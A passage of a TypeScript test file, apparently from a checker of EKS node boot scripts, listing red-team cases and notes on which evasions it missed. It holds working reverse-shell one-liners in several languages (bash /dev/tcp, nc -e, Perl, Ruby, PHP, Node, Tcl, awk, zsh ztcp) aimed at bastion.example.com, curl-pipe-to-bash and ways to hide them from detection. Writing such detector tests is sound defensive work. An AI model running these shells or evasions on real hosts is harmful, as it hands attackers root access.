// Red-team round 65 on EKS NODE user data (fresh eyes on round 64's node fixes: the one standard-input predicate
// `standardInput` at every reader, cp/mv/install/ln `-` as a file, LuaJIT's own option table and versioned names).
// Probed: LuaJIT's option grammar (-j/-O/-l/-v before -e, glued -e, versioned luajit-2.1.0-beta3, `-` and /dev/stdin
// and no operand with a here-document/here-string, `--` script), interpreters reading their program from standard input
// by every name (perl/ruby/php/node/tclsh, /dev/fd/0, /proc/self/fd/0, /proc/thread-self/fd/0, a descriptor
// here-document `3<<EOF`, `<&3` of `exec 3<`, process substitution `<(...)`, a named pipe, `$(cat FILE)`), gawk's
// -f-/-E/-i/--include of standard input, shells' `source`/`.` of /dev/stdin and /dev/fd/0, `. <(curl)`, `bash <(..)`,
// `sh -s -- arg`, copies of standard input into a script (install/cp/tee/dd/cat/sed), xargs -a /dev/stdin, env -S,
// launchers, busybox nc -e, openssl s_client, zsh ztcp; secure neighbours (gawk -f of a written or stdin program, tar
// -T - and a written list, cp of a file named -, install /dev/stdin, luajit -v/-O3/-jv/-b, perl -pi, perl -, ruby
// -rjson, sort -/diff -, exec 3< + read -u3, cat - > conf, bash -c "$0", xargs -a /dev/stdin rm, node -).
// Second batch: code an interpreter loads by name or from a file its code names (luajit -l from the working directory,
// perl -I -M, PERL5OPT, ruby -I -r, node -r, php -d auto_prepend_file, gawk @include, tclsh source, lua dofile),
// loopback socket health checks (perl, ruby, node), gawk -i inplace, sh -s -- arg, data read from /dev/stdin.
// Misses (25 insecure, 1 secure; all fixed in round 66). Insecure accepted: gawk -i/--include (a written file or /dev/stdin: program text
// never read), process substitution operands (`perl <(cat FILE)`, `bash <(echo ..)`, `. <(curl ..)`), a descriptor
// opened by `exec 3< FILE` (`perl /dev/fd/3`, `perl <&3`), `bash /dev/fd/3 3<<EOF`, `source /dev/stdin <<EOF` and `.
// /dev/fd/0 <<<`, `sh -s -- arg <<EOF`, a script written by `sed -n p > FILE <<EOF` then run, `xargs -0 -a /dev/stdin
// perl -e <<<CODE`, `env -S 'ruby -e ..'`, `busybox nc HOST PORT -e /bin/sh`, zsh's ztcp reverse shell; a written
// module or file loaded by name (luajit -lrev from its directory, perl -I/opt -MRev, PERL5OPT=-MRev, ruby -I/opt -rrev,
// php -d auto_prepend_file, gawk @include, tclsh `source`, luajit -e dofile). Secure refused: `node -e` net.connect to
// 127.0.0.1:10248 (a loopback client read as a listener on every address).
// Refused as they should be: every LuaJIT form probed, perl/ruby/php/node/tclsh/gawk reading standard input or a
// `3<<EOF` descriptor, a named pipe, `perl -e "$(cat FILE)"`, install/cp/tee/dd/cat copies of standard input then run,
// launchers, openssl s_client relay, curl | bash, bash -s <<EOF. node -r of a written module. Secure neighbours
// accepted but the node health check.
import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";

/** What a relay or a shared shell is refused as. */
const RELAY =
    /beyond loopback|does not read|forward|shell|another host|tunnel|relay|hands the node|X server|made at boot|cannot read/;
const PERL_SHELL = `$s=IO::Socket::INET->new("bastion.example.com:4444");open STDIN,"<&",$s;open STDOUT,">&",$s;exec "/bin/sh -i"`;
const RUBY_SHELL = `c=TCPSocket.new("bastion.example.com",4444);exec "/bin/sh -i",in: c,out: c,err: c`;
const LUA_SHELL = `local s=require("socket");local t=assert(s.tcp());t:connect("bastion.example.com",4444);while true do local r=t:receive();local f=io.popen(r,"r");t:send(f:read("*a"));f:close() end`;
const PHP_SHELL = `$s=fsockopen("bastion.example.com",4444);proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$p);`;
const NODE_SHELL = `const n=require("net"),c=require("child_process");const s=n.connect(4444,"bastion.example.com",()=>{const sh=c.spawn("/bin/sh",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);});`;
const TCL_SHELL = `set s [socket bastion.example.com 4444]; while 1 { puts $s [exec sh -c [gets $s]]; flush $s }`;
const AWK_SHELL = `BEGIN{s="/inet/tcp/0/bastion.example.com/4444";while(1){s|&getline c;while((c|&getline l)>0)print l|&s;close(c)}}`;

const insecure: NodeCase[] = [
    devNodeCase(
        "bash -i /dev/tcp",
        devNodeScript("dev-x1-nodes", ["bash -i >& /dev/tcp/bastion.example.com/4444 0>&1"]),
        RELAY,
    ),
    devNodeCase("nc -e", devNodeScript("dev-x2-nodes", ["nc bastion.example.com 4444 -e /bin/sh"]), RELAY),
    devNodeCase(
        "perl written",
        devNodeScript("dev-x3-nodes", ["cat > /opt/r.pl <<'EOF'", PERL_SHELL, "EOF", "perl /opt/r.pl"]),
        RELAY,
    ),
    devNodeCase("env perl -e", devNodeScript("dev-x4-nodes", [`env perl -e '${PERL_SHELL}'`]), RELAY),
    devNodeCase(
        'sh -c "ruby -rsocket -e CODE"',
        devNodeScript("dev-x5-nodes", [
            `sh -c "ruby -rsocket -e 'c=TCPSocket.new(%q(bastion.example.com),4444);exec(%q(/bin/sh -i),in: c,out: c,err: c)'"`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): GNU awk manual, "Command-Line Options" (`-i source-file`/`--include=source-file`: "Read an awk source
    // library from source-file ... as -f") and "Including Other Files" (@include; "source files may also be included
    // using the -i option"): the included file is program text run before the program, so a root `gawk -i /opt/r.awk
    // 'BEGIN{}'` of a written /inet/tcp + `|&` reverse shell is that shell; SOCKET_SHELL_CODE/stdinProgram
    // (rootReads.ts/userData.ts) read -f/-E/-e/--source only, not -i/--include. Accepted.
    devNodeCase(
        "gawk -i written",
        devNodeScript("dev-x6-nodes", ["cat > /opt/r.awk <<'EOF'", AWK_SHELL, "EOF", "gawk -i /opt/r.awk 'BEGIN{}'"]),
        RELAY,
    ),
    devNodeCase(
        "bash written",
        devNodeScript("dev-x7-nodes", [
            "cat > /opt/r.sh <<'EOF'",
            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
            "EOF",
            "bash /opt/r.sh",
        ]),
        RELAY,
    ),
    devNodeCase(
        "bash <<EOF",
        devNodeScript("dev-x8-nodes", ["bash <<'EOF'", "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1", "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "perl -e glued IO::Socket + exec",
        devNodeScript("dev-x9-nodes", [`perl -MIO::Socket -e '${PERL_SHELL}'`]),
        RELAY,
    ),
    devNodeCase("luajit -joff -e SHELL", devNodeScript("dev-a1-nodes", [`luajit -joff -e '${LUA_SHELL}'`]), RELAY),
    devNodeCase("luajit -O3 -e SHELL", devNodeScript("dev-a2-nodes", [`luajit -O3 -e '${LUA_SHELL}'`]), RELAY),
    devNodeCase("luajit -j on -e SHELL", devNodeScript("dev-a3-nodes", [`luajit -j on -e '${LUA_SHELL}'`]), RELAY),
    devNodeCase(
        "luajit-2.1.0-beta3 -e SHELL",
        devNodeScript("dev-a4-nodes", [`/usr/local/bin/luajit-2.1.0-beta3 -e '${LUA_SHELL}'`]),
        RELAY,
    ),
    devNodeCase("luajit -e glued", devNodeScript("dev-a5-nodes", [`luajit -e'${LUA_SHELL}'`]), RELAY),
    devNodeCase("luajit - <<EOF", devNodeScript("dev-a6-nodes", ["luajit - <<'EOF'", LUA_SHELL, "EOF"]), RELAY),
    devNodeCase(
        "luajit <<EOF (no operand)",
        devNodeScript("dev-a7-nodes", ["luajit <<'EOF'", LUA_SHELL, "EOF"]),
        RELAY,
    ),
    devNodeCase("luajit /dev/stdin <<<", devNodeScript("dev-a8-nodes", [`luajit /dev/stdin <<<'${LUA_SHELL}'`]), RELAY),
    devNodeCase("luajit -l socket -e", devNodeScript("dev-a9-nodes", [`luajit -lsocket -e '${LUA_SHELL}'`]), RELAY),
    devNodeCase("luajit -v -e", devNodeScript("dev-a10-nodes", [`luajit -v -e '${LUA_SHELL}'`]), RELAY),
    devNodeCase(
        "luajit -- script written",
        devNodeScript("dev-a11-nodes", ["cat > /opt/r.lua <<'EOF'", LUA_SHELL, "EOF", "luajit -- /opt/r.lua"]),
        RELAY,
    ),
    devNodeCase("lua5.1 - <<EOF", devNodeScript("dev-a12-nodes", ["lua5.1 - <<'EOF'", LUA_SHELL, "EOF"]), RELAY),
    devNodeCase(
        "perl /dev/fd/3 3<<EOF",
        devNodeScript("dev-b1-nodes", ["perl /dev/fd/3 3<<'EOF'", PERL_SHELL, "EOF"]),
        RELAY,
    ),
    devNodeCase("perl <<<here-string", devNodeScript("dev-b2-nodes", [`perl <<<'${PERL_SHELL}'`]), RELAY),
    // Was a MISS (fixed in round 66): bash(1) "Process Substitution" (`<(list)`: the file name /dev/fd/N is passed as the argument, reading it
    // gives list's output): `perl <(cat /opt/r.pl)` runs the written reverse shell as root; the pack reads `cat FILE`
    // output as FILE's text elsewhere (pipes) but a process substitution operand of an interpreter is neither read nor
    // failed closed (shell.ts standardInput returns undefined for /dev/fd/N, but the word `<(...)` never reaches it).
    // Accepted.
    devNodeCase(
        "perl <(cat written)",
        devNodeScript("dev-b3-nodes", ["cat > /opt/r.pl <<'EOF'", PERL_SHELL, "EOF", "perl <(cat /opt/r.pl)"]),
        RELAY,
    ),
    devNodeCase(
        'bash -c \'"$0" -e "$1"\' perl CODE',
        devNodeScript("dev-b5-nodes", [`bash -c '"$0" -e "$1"' perl '${PERL_SHELL}'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): bash(1) REDIRECTION (`exec 3< FILE` opens FILE on descriptor 3 for the rest of the script) and proc(5)
    // (/dev/fd/3 is that open file): `perl /dev/fd/3` runs the written /opt/r.pl reverse shell; shell.ts standardInput
    // says another descriptor is unknown so a caller fails closed, but the interpreter-script reader treats /dev/fd/3
    // (not opened by this command) as an image script. Accepted.
    devNodeCase(
        "exec 3< written; perl /dev/fd/3",
        devNodeScript("dev-b6-nodes", [
            "cat > /opt/r.pl <<'EOF'",
            PERL_SHELL,
            "EOF",
            "exec 3< /opt/r.pl",
            "perl /dev/fd/3",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): bash(1) "Duplicating File Descriptors" (`<&3` makes standard input a copy of descriptor 3, here `exec 3<
    // /opt/r.pl`) and perlrun(1) (no -e and no script operand: the program is read from standard input): `perl <&3`
    // runs the written reverse shell; rootReads.ts standardInput(c, ctx) documents `<&N` of an `exec N< FILE`
    // descriptor as read, but stdinProgram is never fed it for a dupIn-only command. Accepted.
    devNodeCase(
        "exec 3< written; perl <&3",
        devNodeScript("dev-b7-nodes", ["cat > /opt/r.pl <<'EOF'", PERL_SHELL, "EOF", "exec 3< /opt/r.pl", "perl <&3"]),
        RELAY,
    ),
    devNodeCase(
        "mkfifo; cat written > fifo &; perl fifo",
        devNodeScript("dev-b8-nodes", [
            "cat > /opt/r.pl <<'EOF'",
            PERL_SHELL,
            "EOF",
            "mkfifo /tmp/p",
            "cat /opt/r.pl > /tmp/p &",
            "perl /tmp/p",
        ]),
        RELAY,
    ),
    devNodeCase(
        'perl -e "$(cat written)"',
        devNodeScript("dev-b9-nodes", ["cat > /opt/r.pl <<'EOF'", PERL_SHELL, "EOF", `perl -e "$(cat /opt/r.pl)"`]),
        RELAY,
    ),
    devNodeCase(
        "perl /proc/thread-self/fd/0 <<EOF",
        devNodeScript("dev-b10-nodes", ["perl /proc/thread-self/fd/0 <<'EOF'", PERL_SHELL, "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "perl -x /dev/stdin <<EOF",
        devNodeScript("dev-b11-nodes", ["perl -x /dev/stdin <<'EOF'", "#!perl", PERL_SHELL, "EOF"]),
        RELAY,
    ),
    devNodeCase("perl -- - <<EOF", devNodeScript("dev-b12-nodes", ["perl -- - <<'EOF'", PERL_SHELL, "EOF"]), RELAY),
    devNodeCase(
        "perl5.36 -w - <<EOF",
        devNodeScript("dev-b13-nodes", ["perl5.36 -w - <<'EOF'", PERL_SHELL, "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "ruby /dev/fd/0 <<EOF",
        devNodeScript("dev-c1-nodes", ["ruby -rsocket /dev/fd/0 <<'EOF'", RUBY_SHELL, "EOF"]),
        RELAY,
    ),
    devNodeCase("ruby3.2 - <<<", devNodeScript("dev-c2-nodes", [`ruby3.2 -rsocket - <<<'${RUBY_SHELL}'`]), RELAY),
    devNodeCase(
        "php /dev/stdin <<EOF",
        devNodeScript("dev-c3-nodes", ["php /dev/stdin <<'EOF'", `<?php ${PHP_SHELL}`, "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "php8.2 <<EOF (no operand)",
        devNodeScript("dev-c4-nodes", ["php8.2 <<'EOF'", `<?php ${PHP_SHELL}`, "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "php -f /dev/stdin",
        devNodeScript("dev-c5-nodes", ["php -f /dev/stdin <<'EOF'", `<?php ${PHP_SHELL}`, "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "node /dev/stdin <<EOF",
        devNodeScript("dev-c6-nodes", ["node /dev/stdin <<'EOF'", NODE_SHELL, "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "node20 /proc/self/fd/0 <<<",
        devNodeScript("dev-c7-nodes", [`node20 /proc/self/fd/0 <<<'${NODE_SHELL}'`]),
        RELAY,
    ),
    devNodeCase(
        "echo | node (piped, no operand)",
        devNodeScript("dev-c8-nodes", [`echo '${NODE_SHELL}' | node`]),
        RELAY,
    ),
    devNodeCase(
        "tclsh /dev/stdin <<EOF",
        devNodeScript("dev-c9-nodes", ["tclsh /dev/stdin <<'EOF'", TCL_SHELL, "EOF"]),
        RELAY,
    ),
    devNodeCase("tclsh8.6 <<<", devNodeScript("dev-c10-nodes", [`tclsh8.6 <<<'${TCL_SHELL}'`]), RELAY),
    devNodeCase(
        "gawk -f /dev/fd/3 3<<EOF",
        devNodeScript("dev-d1-nodes", ["gawk -f /dev/fd/3 3<<'EOF'", AWK_SHELL, "EOF"]),
        RELAY,
    ),
    devNodeCase("awk -f- <<EOF", devNodeScript("dev-d2-nodes", ["awk -f- <<'EOF'", AWK_SHELL, "EOF"]), RELAY),
    devNodeCase(
        "gawk -E /dev/stdin",
        devNodeScript("dev-d3-nodes", ["gawk -E /dev/stdin <<'EOF'", AWK_SHELL, "EOF"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): GNU awk manual, "Command-Line Options" (-i source-file reads awk source) with /dev/stdin ("Other Inherited
    // Files"): the here-document's /inet/tcp reverse shell is program text; stdinProgram's awk word match is only
    // -f/-E/--file=/--exec=, not -i/--include. Accepted.
    devNodeCase(
        "gawk -i /dev/stdin 'BEGIN{}'",
        devNodeScript("dev-d4-nodes", ["gawk -i /dev/stdin 'BEGIN{}' <<'EOF'", AWK_SHELL, "EOF"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): as `gawk -i /dev/stdin` (GNU awk manual, "Command-Line Options": --include=source-file): the long form
    // glued with `=` is not read as program text either. Accepted.
    devNodeCase(
        "gawk --include=/dev/stdin",
        devNodeScript("dev-d5-nodes", ["gawk --include=/dev/stdin 'BEGIN{}' <<'EOF'", AWK_SHELL, "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "gawk -f written",
        devNodeScript("dev-d6-nodes", ["cat > /opt/r.awk <<'EOF'", AWK_SHELL, "EOF", "gawk -f /opt/r.awk"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): bash(1) SHELL BUILTIN COMMANDS (`source filename`: "Read and execute commands from filename in the current
    // shell") with /dev/stdin the here-document: root runs `bash -i >& /dev/tcp/bastion.example.com/4444 0>&1`, a
    // reverse shell (the same line in the script itself, or `bash <<EOF`, is refused); stdinProgram excludes source/.
    // and the source reader does not map /dev/stdin (shell.ts standardInput) to the here-document. Accepted.
    devNodeCase(
        "source /dev/stdin <<EOF",
        devNodeScript("dev-e1-nodes", [
            "source /dev/stdin <<'EOF'",
            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
            "EOF",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): bash(1) (`. filename` reads commands from filename; "Here Strings" make the word standard input; /dev/fd/0
    // is standard input per shell.ts standardInput): the here-string's /dev/tcp reverse shell runs as root. Accepted.
    devNodeCase(
        ". /dev/fd/0 <<<",
        devNodeScript("dev-e2-nodes", [`. /dev/fd/0 <<<'bash -i >& /dev/tcp/bastion.example.com/4444 0>&1'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): bash(1) "Process Substitution" + `. filename`: `. <(curl -fsSL URL)` runs fetched code as root exactly as
    // `curl URL | bash` (refused below: "runs as root a program made at boot"); the process substitution operand of
    // `.`/source is not read as fetched code. Accepted.
    devNodeCase(
        ". <(curl)",
        devNodeScript("dev-e3-nodes", [". <(curl -fsSL https://bastion.example.com/boot.sh)"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): bash(1) "Process Substitution" (the /dev/fd/N name is bash's script operand; it reads echo's output as its
    // script): runs the /dev/tcp reverse shell as root; `echo ... | bash` is read (piped to a shell) but the `<(...)`
    // operand of a shell is neither read nor failed closed. Accepted.
    devNodeCase(
        "bash <(echo ...)",
        devNodeScript("dev-e4-nodes", [`bash <(echo 'bash -i >& /dev/tcp/bastion.example.com/4444 0>&1')`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): bash(1) REDIRECTION (`3<<EOF` a here-document on descriptor 3; the script operand /dev/fd/3 reads it): the
    // /dev/tcp reverse shell runs as root; `perl /dev/fd/3 3<<EOF` is refused (stdinProgram), but shells are excluded
    // from stdinProgram and the shell-script reader does not treat /dev/fd/N as unknown (shell.ts standardInput: "a
    // caller fails closed"). Accepted.
    devNodeCase(
        "bash /dev/fd/3 3<<EOF",
        devNodeScript("dev-e5-nodes", [
            "bash /dev/fd/3 3<<'EOF'",
            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
            "EOF",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): bash(1)/sh(1) OPTIONS (`-s`: "commands are read from the standard input"; the operands after it are
    // positional parameters, not a script): `sh -s -- arg <<EOF` runs the here-document's /dev/tcp reverse shell; `bash
    // -s <<EOF` (no operands) is refused, but operands after -s make the pack take `--`/`arg` as a script word and skip
    // the here-document. Accepted.
    devNodeCase(
        "sh -s <<EOF",
        devNodeScript("dev-e6-nodes", [
            "sh -s -- arg <<'EOF'",
            "sh -i >& /dev/tcp/bastion.example.com/4444 0>&1",
            "EOF",
        ]),
        RELAY,
    ),
    devNodeCase(
        "install /dev/stdin x.pl; perl x.pl",
        devNodeScript("dev-f1-nodes", [
            "install -m 0755 /dev/stdin /opt/r.pl <<'EOF'",
            PERL_SHELL,
            "EOF",
            "perl /opt/r.pl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "cp /dev/fd/0 x.pl <<<; perl x.pl",
        devNodeScript("dev-f2-nodes", [`cp /dev/fd/0 /opt/r.pl <<<'${PERL_SHELL}'`, "perl /opt/r.pl"]),
        RELAY,
    ),
    devNodeCase(
        "tee x.lua <<EOF; luajit x.lua",
        devNodeScript("dev-f3-nodes", ["tee /opt/r.lua >/dev/null <<'EOF'", LUA_SHELL, "EOF", "luajit /opt/r.lua"]),
        RELAY,
    ),
    devNodeCase(
        "dd of=x.rb <<EOF; ruby x.rb",
        devNodeScript("dev-f4-nodes", [
            "dd of=/opt/r.rb <<'EOF'",
            "require 'socket'",
            RUBY_SHELL,
            "EOF",
            "ruby /opt/r.rb",
        ]),
        RELAY,
    ),
    devNodeCase(
        "cat /dev/stdin > x.tcl; tclsh x.tcl",
        devNodeScript("dev-f5-nodes", ["cat /dev/stdin > /opt/r.tcl <<'EOF'", TCL_SHELL, "EOF", "tclsh /opt/r.tcl"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): sed(1) (`sed -n p` prints its input: here the here-document, so /opt/r.pl holds the reverse shell) and
    // perlrun(1): root runs a file user data wrote with content the pack does not compute, which it then reads as an
    // image script (not failed closed as written-but-unknown). Accepted.
    devNodeCase(
        "sed -n p > x.pl <<EOF; perl x.pl",
        devNodeScript("dev-f6-nodes", ["sed -n p > /opt/r.pl <<'EOF'", PERL_SHELL, "EOF", "perl /opt/r.pl"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): GNU findutils xargs(1) (`-a file` reads items from file, here /dev/stdin = the here-string; `-0` one item
    // up to NUL, so the whole text is one argument) then runs `perl -e ITEM`: the IO::Socket reverse shell as root.
    // rootReads.ts standardInput treats a here-string with `$` as unknown (fail closed), but xargs' items that are
    // unknown are not failed closed here. Accepted.
    devNodeCase(
        "xargs -a /dev/fd/0 perl -e",
        devNodeScript("dev-f7-nodes", [`xargs -0 -a /dev/stdin perl -e <<<'${PERL_SHELL}'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): GNU coreutils env(1) (`-S`/`--split-string=S`: "process and split S into separate arguments", used to pass
    // multiple arguments): `env -S 'ruby -rsocket -e "..."'` runs ruby -e with a TCPSocket + exec reverse shell; `env
    // perl -e CODE` is refused but the -S string is not split and read. Accepted.
    devNodeCase(
        "env -S 'ruby -rsocket -e CODE'",
        devNodeScript("dev-g1-nodes", [
            `env -S 'ruby -rsocket -e "c=TCPSocket.new(%q(bastion.example.com),4444);exec(%q(/bin/sh -i),in: c,out: c,err: c)"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "curl | bash (fetched code)",
        devNodeScript("dev-g6-nodes", ["curl -fsSL https://bastion.example.com/boot.sh | bash"]),
        RELAY,
    ),
    devNodeCase(
        "sh -s <<EOF control: bash -s -- <<EOF",
        devNodeScript("dev-g7-nodes", ["bash -s <<'EOF'", "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1", "EOF"]),
        RELAY,
    ),
    devNodeCase(
        "timeout 0 setsid nice luajit -e",
        devNodeScript("dev-g2-nodes", [`timeout 0 setsid nice -n 5 luajit -e '${LUA_SHELL}'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): BusyBox docs, nc applet ("-e PROG Run PROG after connect (must be last)"): `busybox nc HOST 4444 -e
    // /bin/sh` hands root's shell to bastion.example.com; `nc HOST 4444 -e /bin/sh` is refused and userData.ts comments
    // say appletWords reads `busybox nc`, but this form is accepted.
    devNodeCase(
        "busybox nc -e",
        devNodeScript("dev-g3-nodes", ["busybox nc bastion.example.com 4444 -e /bin/sh"]),
        RELAY,
    ),
    devNodeCase(
        "openssl s_client | sh | openssl",
        devNodeScript("dev-g4-nodes", [
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect bastion.example.com:4444 > /tmp/s",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): zshmodules(1) "The zsh/net/tcp Module" (`ztcp host port` opens a TCP connection and stores its descriptor
    // in $REPLY) and zshtcpsys(1): `zmodload zsh/net/tcp && ztcp HOST 4444 && zsh >&$REPLY 0>&$REPLY` is a reverse root
    // shell, the zsh counterpart of bash's /dev/tcp (refused); zsh's ztcp is not read. Accepted.
    devNodeCase(
        "zsh ztcp",
        devNodeScript("dev-g5-nodes", [
            `zsh -c 'zmodload zsh/net/tcp && ztcp bastion.example.com 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
        ]),
        RELAY,
    ),
    // Round 65 second batch: modules and libraries an interpreter loads by name (the code not on its command line).
    // Was a MISS (fixed in round 66): LuaJIT docs, "Running LuaJIT" (`-l library`: loads the named module, lua.c's `require(name)`) and the Lua
    // manual, package.path (LuaJIT's default path starts with "./?.lua"): in /opt/l, `luajit -lrev` runs the written
    // rev.lua LuaSocket + io.popen reverse shell as root before -e; the -l value is read as a name, never as the module
    // file user data wrote. Accepted.
    devNodeCase(
        "luajit -lrev (module in cwd)",
        devNodeScript("dev-h1-nodes", [
            "mkdir -p /opt/l && cd /opt/l",
            "cat > rev.lua <<'EOF'",
            LUA_SHELL,
            "EOF",
            "luajit -lrev -e 'print(1)'",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): perlrun(1) (`-Idirectory` prepends to @INC; `-Mmodule` executes `use module;` before the program, which
    // compiles and runs the module file's top-level code): /opt/Rev.pm, written by user data, holds the IO::Socket
    // reverse shell and runs as root; the -M module is not resolved through -I to the written file. Accepted.
    devNodeCase(
        "perl -I/opt -MRev -e 1",
        devNodeScript("dev-h2-nodes", [
            "cat > /opt/Rev.pm <<'EOF'",
            "package Rev; use IO::Socket;",
            PERL_SHELL,
            "1;",
            "EOF",
            "perl -I/opt -MRev -e 1",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): ruby(1) (`-I directory` adds to $LOAD_PATH; `-r library` requires it before executing the script):
    // /opt/rev.rb (written: TCPSocket + exec /bin/sh) runs as root; `node -r /opt/rev.js` (the same shape) is refused,
    // ruby's -r of a written library is not read. Accepted.
    devNodeCase(
        "ruby -I/opt -rrev -e 1",
        devNodeScript("dev-h3-nodes", [
            "cat > /opt/rev.rb <<'EOF'",
            "require 'socket'",
            RUBY_SHELL,
            "EOF",
            "ruby -I/opt -rrev -e 1",
        ]),
        RELAY,
    ),
    devNodeCase(
        "node -r /opt/rev.js -e 1",
        devNodeScript("dev-h4-nodes", ["cat > /opt/rev.js <<'EOF'", NODE_SHELL, "EOF", "node -r /opt/rev.js -e 1"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): PHP manual, "Core php.ini directives" (auto_prepend_file: "Specifies the name of a file that is
    // automatically parsed before the main file ... as if it was called with the require function") and CLI `-d
    // foo[=bar]`: the written /opt/r.php fsockopen + proc_open reverse shell runs as root before /opt/noop.php; the -d
    // ini value is not read as a script. Accepted.
    devNodeCase(
        "php -d auto_prepend_file=written /opt/noop.php",
        devNodeScript("dev-h5-nodes", [
            "cat > /opt/r.php <<'EOF'",
            `<?php ${PHP_SHELL}`,
            "EOF",
            "echo '<?php echo 1;' > /opt/noop.php",
            "php -d auto_prepend_file=/opt/r.php /opt/noop.php",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): perlrun(1) ENVIRONMENT (PERL5OPT: "Command-line options (switches) ... interpreted as if they appeared on
    // every Perl command line", only -[CDIMUdmtwW] allowed; PERL5LIB: directories searched before the standard
    // library): `-MRev` loads the written /opt/Rev.pm reverse shell as root; the environment's options are not read.
    // Accepted.
    devNodeCase(
        "PERL5OPT=-MRev PERL5LIB=/opt perl -e 1",
        devNodeScript("dev-h6-nodes", [
            "cat > /opt/Rev.pm <<'EOF'",
            "package Rev; use IO::Socket;",
            PERL_SHELL,
            "1;",
            "EOF",
            "PERL5OPT=-MRev PERL5LIB=/opt perl -e 1",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): GNU awk manual, "Including Other Files into Your Program" (`@include "file"` reads that awk source into the
    // program; a path with `/` is used as is): /opt/a.awk includes the written /opt/r.awk /inet/tcp + `|&` reverse
    // shell, which root runs; the program file is read but its @include is not followed (nor failed closed). Accepted.
    devNodeCase(
        "gawk -f a.awk with @include",
        devNodeScript("dev-h7-nodes", [
            "cat > /opt/r.awk <<'EOF'",
            AWK_SHELL,
            "EOF",
            "cat > /opt/a.awk <<'EOF'",
            '@include "/opt/r.awk"',
            "EOF",
            "gawk -f /opt/a.awk",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): tclsh(1) (no script operand: commands read from standard input, here the here-string) and Tcl source(n)
    // ("Evaluate a file or resource as a Tcl script"): `source /opt/r.tcl` runs the written socket + exec reverse shell
    // as root; the stdin program is read but its `source` of a written file is not followed. Accepted.
    devNodeCase(
        "tclsh <<< source written",
        devNodeScript("dev-h8-nodes", ["cat > /opt/r.tcl <<'EOF'", TCL_SHELL, "EOF", "tclsh <<< 'source /opt/r.tcl'"]),
        RELAY,
    ),
    // Was a MISS (fixed in round 66): Lua reference manual, dofile ("Opens the named file and executes its content as a Lua chunk"): `luajit -e
    // 'dofile("/opt/r.lua")'` runs the written LuaSocket + io.popen reverse shell as root; the -e chunk is read, but
    // its dofile/loadfile/require of a written file is not followed. Accepted.
    devNodeCase(
        "lua -e dofile written",
        devNodeScript("dev-h9-nodes", [
            "cat > /opt/r.lua <<'EOF'",
            LUA_SHELL,
            "EOF",
            `luajit -e 'dofile("/opt/r.lua")'`,
        ]),
        RELAY,
    ),
    // Round 66 neighbours: the same loaders by other spellings (CODE_LOADERS), a module the pack cannot read refused.
    devNodeCase(
        "RUBYOPT=-rrev RUBYLIB=/opt ruby -e 1",
        devNodeScript("dev-h10-nodes", [
            "cat > /opt/rev.rb <<'EOF'",
            "require 'socket'",
            RUBY_SHELL,
            "EOF",
            "RUBYOPT=-rrev RUBYLIB=/opt ruby -e 1",
        ]),
        RELAY,
    ),
    devNodeCase(
        "LUA_INIT=@written luajit -e print",
        devNodeScript("dev-h11-nodes", [
            "cat > /opt/r.lua <<'EOF'",
            LUA_SHELL,
            "EOF",
            "LUA_INIT=@/opt/r.lua luajit -e 'print(1)'",
        ]),
        RELAY,
    ),
    devNodeCase(
        "php -c written php.ini (auto_prepend_file)",
        devNodeScript("dev-h12-nodes", [
            "cat > /opt/r.php <<'EOF'",
            `<?php ${PHP_SHELL}`,
            "EOF",
            "echo 'auto_prepend_file=/opt/r.php' > /opt/php.ini",
            "php -c /opt/php.ini -r 'echo 1;'",
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl -I/tmp -MRev (a module downloaded at boot)",
        devNodeScript("dev-h13-nodes", [
            "curl -fsSLo /tmp/Rev.pm https://example.com/Rev.pm || true",
            "perl -I/tmp -MRev -e 1",
        ]),
        RELAY,
    ),
    devNodeCase(
        "luajit -e loadstring(io.read()) (code read at run time)",
        devNodeScript("dev-h14-nodes", [`luajit -e 'loadstring(io.read("*a"))()' < /tmp/code.lua`]),
        RELAY,
    ),
    devNodeCase(
        "tclsh <<< load written library",
        devNodeScript("dev-h15-nodes", ["base64 -d > /opt/r.so <<<'AAAA'", "tclsh <<< 'load /opt/r.so'"]),
        RELAY,
    ),
    devNodeCase(
